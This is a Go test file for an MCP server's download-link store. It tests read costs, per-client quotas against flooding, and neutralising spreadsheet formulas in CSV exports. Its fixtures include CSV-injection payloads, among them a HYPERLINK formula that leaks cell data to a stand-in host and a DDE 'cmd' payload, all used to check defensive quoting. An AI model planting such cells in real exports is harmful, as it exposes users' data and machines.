package full

import (
	"context"

	"encoding/csv"
	"errors"
	"fmt"
	"github.com/mark3labs/mcp-go/mcp"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/server"

	"github.com/nsip-tools/nsip-mcp/nsip"
	"github.com/nsip-tools/nsip-mcp/transport/caller"
)

// Reading a link does no work of its own: the data was built and encoded
// once, when the link was given, and the store counts those encoded bytes
// against its bound. A client reading a large link over and over (the
// attack: 510 reads of a 1.2 MB summary) costs the server the hand-over
// alone, not a build and an encoding each.
func TestReadingALinkNeitherBuildsNorEncodes(t *testing.T) {
	s := New(Config{})
	tab := table(8000) // about 1 MB as JSON
	builds := atomic.Int64{}
	l := s.Offer(as("token:a"), Data{Size: tab.Size(), Build: func() (*Table, error) { builds.Add(1); return tab, nil }})
	first, err := read(t, s, as("token:a"), l.JSON)
	if err != nil {
		t.Fatal(err)
	}
	firstCSV, err := read(t, s, as("token:a"), l.CSV)
	if err != nil {
		t.Fatal(err)
	}
	if _, held := s.Len(); held < int64(len(first)+len(firstCSV)) {
		t.Errorf("the store counts %d bytes for a link whose JSON and CSV are %d bytes", held, len(first)+len(firstCSV))
	}
	const reads = 40
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for i := range reads {
		uri := l.JSON
		if i%2 == 1 {
			uri = l.CSV
		}
		text, err := read(t, s, as("token:a"), uri)
		if err != nil || (uri == l.JSON && text != first) {
			t.Fatalf("read %d: %d bytes, %v", i, len(text), err)
		}
	}
	runtime.ReadMemStats(&after)
	if n := builds.Load(); n != 1 {
		t.Errorf("the table was built %d times for 2+%d reads, want once", n, reads)
	}
	// Each read copying or encoding the data would allocate over 20 MB.
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 1<<20 {
		t.Errorf("%d reads of a %d-byte link allocated %d bytes, want under 1 MiB: a read must share the encoded bytes", reads, len(first), alloc)
	}
}

// Each client has its share of the store: another client making link
// after link (the attack: 40 large summaries) drops its own oldest links,
// never those of a client holding less than an even share, which live
// their whole TTL. The store stays within its bound throughout.
func TestOneClientsLinksNeverDropAnothers(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	s := New(Config{TTL: time.Hour, MaxBytes: 64 << 10, StoreBytes: 256 << 10, Now: func() time.Time { return now }})
	honest := as(caller.Address("192.0.2.1"))
	mine := s.Offer(honest, data(table(100)))
	if mine.JSON == "" {
		t.Fatalf("no link: %s", mine.Note)
	}
	// The flood comes from one address over many sessions' worth of
	// calls, each a different answer.
	flood := as(caller.Address("198.51.100.9"))
	var theirs []Links
	for i := range 40 {
		now = now.Add(time.Minute)
		theirs = append(theirs, s.Offer(flood, Data{Ref: fmt.Sprint("breed#", i), Size: 1, Build: func() (*Table, error) { return table(300), nil }}))
		if _, held := s.Len(); held > 256<<10 {
			t.Fatalf("after %d links the store holds %d bytes, over its bound of %d", i+1, held, 256<<10)
		}
	}
	now = now.Add(20*time.Minute - time.Second) // just short of the hour
	if text, err := read(t, s, honest, mine.CSV); err != nil || !strings.HasPrefix(text, "lpn_id,sex,WWT,note\n") {
		t.Errorf("the honest client's link after another's 40: %v; links must live their hour", err)
	}
	// The flood's newest link reads; its oldest gave way to it.
	if _, err := read(t, s, flood, theirs[39].JSON); err != nil {
		t.Errorf("the flood's newest link: %v", err)
	}
	if _, err := read(t, s, flood, theirs[0].JSON); !errors.Is(err, server.ErrResourceNotFound) {
		t.Errorf("the flood's oldest link: %v, want not found (its own newer links took its room)", err)
	}
	now = now.Add(time.Second)
	if _, err := read(t, s, honest, mine.CSV); !errors.Is(err, server.ErrResourceNotFound) {
		t.Errorf("the honest link at the hour: %v, want not found", err)
	}
}

// The share is the client's, not the session's: a client opening a new
// session for each call is one holder, so its sessions' links give way to
// each other rather than to another client's, and only the session that
// made a call reads its link.
func TestAClientsSessionsShareOneShare(t *testing.T) {
	s := New(Config{MaxBytes: 64 << 10, StoreBytes: 256 << 10})
	honest := as(caller.Address("192.0.2.1"))
	mine := s.Offer(honest, data(table(300)))
	// Each session's link is smaller than the honest one, but together
	// they are the largest holder by far.
	for i := range 150 {
		ctx := caller.WithRequest(withSession(fmt.Sprint("flood-", i)), caller.Address("198.51.100.9"))
		s.Offer(ctx, Data{Size: 1, Build: func() (*Table, error) { return table(20), nil }})
	}
	if _, held := s.Len(); held > 256<<10 {
		t.Errorf("the store holds %d bytes, over its bound", held)
	}
	if _, err := read(t, s, honest, mine.JSON); err != nil {
		t.Errorf("the honest link after 150 sessions of one client: %v", err)
	}
	ctx := caller.WithRequest(withSession("one"), caller.Address("198.51.100.9"))
	l := s.Offer(ctx, data(table(2)))
	if _, err := read(t, s, caller.WithRequest(withSession("two"), caller.Address("198.51.100.9")), l.JSON); !errors.Is(err, server.ErrResourceNotFound) {
		t.Errorf("another session of the same client read the link: %v, want not found", err)
	}
	if _, err := read(t, s, ctx, l.JSON); err != nil {
		t.Errorf("the session that made the call: %v", err)
	}
}

// A text cell a spreadsheet would run as a formula is written with a
// leading single quote (CWE-1236, OWASP's rule), the header's too; plain
// numbers, negative ones included, stay numbers, and the JSON keeps every
// value as it was.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	hostile := []any{
		`=HYPERLINK("http://example.test/?"&A1,"Hill Farm")`, "+1+1", "-1-1", "@SUM(A1:A9)", "\tTab Farm", "\rCR Farm",
		"-0.25", -0.25, "+3", "1e-7", "-2.5E+3", "-Inf", "- Hill", "Hill = Dale", "'quoted", "",
	}
	want := []string{
		`'=HYPERLINK("http://example.test/?"&A1,"Hill Farm")`, "'+1+1", "'-1-1", "'@SUM(A1:A9)", "'\tTab Farm", "'\rCR Farm",
		"-0.25", "-0.25", "+3", "1e-7", "-2.5E+3", "'-Inf", "'- Hill", "Hill = Dale", "'quoted", "",
	}
	tab := &Table{Columns: []string{"=cmd|' /C calc'!A0", "value"}}
	for _, v := range hostile {
		tab.Rows = append(tab.Rows, []any{"farm", v})
	}
	b, err := tab.CSV()
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][0] != "'=cmd|' /C calc'!A0" {
		t.Errorf("header %q, want the formula quoted", recs[0][0])
	}
	var got []string
	for _, r := range recs[1:] {
		got = append(got, r[1])
	}
	if !slices.Equal(got, want) {
		t.Errorf("cells:\n%q\nwant:\n%q", got, want)
	}
	j, err := tab.JSON()
	if err != nil || !strings.Contains(string(j), `"value":"=HYPERLINK(`) || !strings.Contains(string(j), `"value":-0.25`) {
		t.Errorf("JSON %s, %v: want the values unchanged", j, err)
	}
}

// A cell a spreadsheet would run as a formula gets a ' wherever a
// spreadsheet may start a cell: at the field's start, after a separator it
// may split on (, ; tab |), and in both past leading spaces; the full-width
// formula characters count, and plain numbers stay numbers. Before, only
// the field's first character was judged: "Maple Leaf;=1+1" was written
// bare, and opened as a formula where ; splits cells.
func TestSafeCellByTheWholeRule(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"= starts the field", "=1+1", "'=1+1"},
		{"+ starts the field", "+1+1", "'+1+1"},
		{"- starts the field", "-1-1", "'-1-1"},
		{"@ starts the field", "@SUM(A1)", "'@SUM(A1)"},
		{"tab starts the field", "\tTab Farm", "'\tTab Farm"},
		{"carriage return starts the field", "\rCR Farm", "'\rCR Farm"},
		{"= after ;", "Maple Leaf;=1+1", "Maple Leaf;'=1+1"},
		{"= after ,", "Maple Leaf,=1+1", "Maple Leaf,'=1+1"},
		{"= after tab", "Maple Leaf\t=1+1", "Maple Leaf\t'=1+1"},
		{"@ after |", "a|@SUM(A1)", "a|'@SUM(A1)"},
		{"+ after ;", "Dale;+1+1", "Dale;'+1+1"},
		{"- after ,", "Dale,-A1", "Dale,'-A1"},
		{"tab after |", "a|\tb", "a|'\tb"},
		{"carriage return after ;", "a;\rb", "a;'\rb"},
		{"each separated formula", "=1;=2|@3", "'=1;'=2|'@3"},
		{"after two separators", "a;;=1", "a;;'=1"},
		{"tab then formula", "\t=1", "'\t'=1"},
		{"leading spaces", "  =1+1", "'  =1+1"},
		{"leading ideographic space", "\u3000=1+1", "'\u3000=1+1"},
		{"leading no-break space", "\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"},
		{"spaces after a separator", "Dale;  +1+1", "Dale;'  +1+1"},
		{"full-width =", "＝1+1", "'＝1+1"},
		{"full-width +", "＋1+1", "'＋1+1"},
		{"full-width -", "－1-1", "'－1-1"},
		{"full-width @", "＠SUM(A1)", "'＠SUM(A1)"},
		{"full-width = after ;", "Hill;＝1+1", "Hill;'＝1+1"},
		{"full-width after spaces", "  ＝1+1", "'  ＝1+1"},
		{"negative number", "-0.227", "-0.227"},
		{"positive number", "+1.5", "+1.5"},
		{"exponent", "-2.5E+3", "-2.5E+3"},
		{"number after spaces", "  -0.227", "  -0.227"},
		{"numbers after separators", "-1;+2,-0.5|-3\t+4", "-1;+2,-0.5|-3\t+4"},
		{"number with trailing space", "Hill; -0.5 ;x", "Hill; -0.5 ;x"},
		{"not a number", "-Inf", "'-Inf"},
		{"number then formula", "-0.5;=1", "-0.5;'=1"},
		{"= inside a cell", "Hill = Dale", "Hill = Dale"},
		{"- inside a name", "Smith-Jones;Hill-Top", "Smith-Jones;Hill-Top"},
		{"separator at the end", "Hill;", "Hill;"},
		{"already quoted", "'quoted", "'quoted"},
		{"plain text", "Maple Leaf Farm", "Maple Leaf Farm"},
		{"empty", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := safeCell(tc.in); got != tc.want {
				t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// The whole rule reaches the link: a farm and a breeder name with a
// formula after a separator, as a hostile breeder typed them, come out of
// a pedigree's CSV neutralised, while the JSON keeps them as typed.
func TestPedigreeSeparatedFormulaReadsAsText(t *testing.T) {
	farm, dale := "Maple Leaf;=1+1", "  ＠SUM(A1)|Dale"
	got := readAs(t, &nsip.Lineage{Subject: nsip.LineageNode{LPNID: "C", Farm: farm, Sire: &nsip.LineageNode{LPNID: "S", Farm: dale}}}, nil, "csv")
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[1][6] != "Maple Leaf;'=1+1" || recs[2][6] != "'  ＠SUM(A1)|Dale" {
		t.Errorf("pedigree CSV %q, want each farm's formula behind a quote", got)
	}
	if j := readAs(t, &nsip.Lineage{Subject: nsip.LineageNode{LPNID: "C", Farm: farm}}, nil, "json"); !strings.Contains(j, `"Maple Leaf;=1+1"`) {
		t.Errorf("pedigree JSON %s, want the farm as typed", j)
	}
}

// fakeSession is a session as mcp-go hands one to a call.
type fakeSession string

func (fakeSession) Initialize()                                         {}
func (fakeSession) Initialized() bool                                   { return true }
func (fakeSession) NotificationChannel() chan<- mcp.JSONRPCNotification { return nil }
func (s fakeSession) SessionID() string                                 { return string(s) }

// withSession is a call's context inside session id.
func withSession(id string) context.Context {
	return server.NewMCPServer("test", "1").WithContext(context.Background(), fakeSession(id))
}

// A pedigree whose farm name a breeder typed as a formula reads, through
// its link, as that text behind a quote.
func TestPedigreeFarmFormulaReadsAsText(t *testing.T) {
	farm := `=HYPERLINK("http://example.test/?"&B2,"Hill Farm")`
	got := readAs(t, &nsip.Lineage{Subject: nsip.LineageNode{LPNID: "C", Farm: farm, Sire: &nsip.LineageNode{LPNID: "S", Farm: "@Dale"}}}, nil, "csv")
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[1][6] != "'"+farm || recs[2][6] != "'@Dale" {
		t.Errorf("pedigree CSV %q, want both farms behind a quote", got)
	}
}

// A sessionless caller behind a same-host proxy that is not trusted to
// name its clients stands for every client behind that proxy, so a link it
// made would be theirs too: it gets none, and a note naming the setting.
func TestNoLinkForAClientThatIsEveryClientBehindAProxy(t *testing.T) {
	s := New(Config{TTL: time.Hour, MaxBytes: 64 << 10, StoreBytes: 256 << 10, Now: time.Now})
	fwd := as(caller.Forwarded(caller.Address("127.0.0.1")))
	got := s.Offer(fwd, data(table(10)))
	if got.JSON != "" || got.CSV != "" || !strings.Contains(got.Note, "MCP_TRUSTED_PROXIES") {
		t.Fatalf("links %+v, want none and a note naming MCP_TRUSTED_PROXIES", got)
	}
	if n, held := s.Len(); n != 0 || held != 0 {
		t.Errorf("the store keeps %d entries (%d bytes) nobody can own", n, held)
	}
	// The same client in a session owns what it makes there.
	inSession := caller.WithRequest(withSession("one"), caller.Forwarded(caller.Address("127.0.0.1")))
	if l := s.Offer(inSession, data(table(10))); l.JSON == "" {
		t.Errorf("a session behind the proxy got no link: %s", l.Note)
	}
}
